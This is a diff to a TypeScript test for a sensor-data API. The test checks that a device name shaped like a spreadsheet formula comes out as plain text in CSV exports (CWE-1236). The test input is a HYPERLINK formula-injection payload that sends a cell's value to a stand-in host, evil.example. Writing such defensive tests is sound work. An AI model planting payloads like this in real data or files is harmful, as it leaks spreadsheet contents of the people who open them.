@@ -156,8 +156,8 @@ describe('OGC 18-088 §9.3 query options, one test each', () => {
   });
   it('$resultFormat=CSV: a station name that looks like a spreadsheet formula is written as text, not run by Excel (CWE-1236)', async () => {
     const evil = '=HYPERLINK("http://evil.example/?"&A1,"Pegel")';
-    const before = (await o.s.ok<{ name: string }>('GET', '/api/v1/devices/rg-nord', undefined, o.tk.giessen)).name;
-    await o.s.ok('PATCH', '/api/v1/devices/rg-nord', { name: evil }, o.tk.giessen);
+    const before = (await o.s.api('GET', '/api/v1/devices/rg-nord', undefined, o.tk.giessen)).body.name;
+    expect((await o.s.api('PATCH', '/api/v1/devices/rg-nord', { name: evil }, o.tk.giessen)).status).toBe(200);
     try {
       const csv = await get("/Things?$filter=@iot.id eq 'rg-nord'&$resultFormat=CSV");
       const cells = csv.text.split('\r\n')[1];
@@ -165,7 +165,7 @@ describe('OGC 18-088 §9.3 query options, one test each', () => {
       expect(cells).not.toMatch(/(^|,)"?=/);
       expect(csv.text.split('\r\n')[0], 'column names unchanged').toMatch(/^@iot\.id,|,@iot\.id,|^@iot\.selfLink,/);
     } finally {
-      await o.s.ok('PATCH', '/api/v1/devices/rg-nord', { name: before }, o.tk.giessen);
+      await o.s.api('PATCH', '/api/v1/devices/rg-nord', { name: before }, o.tk.giessen);
     }
   });
 });
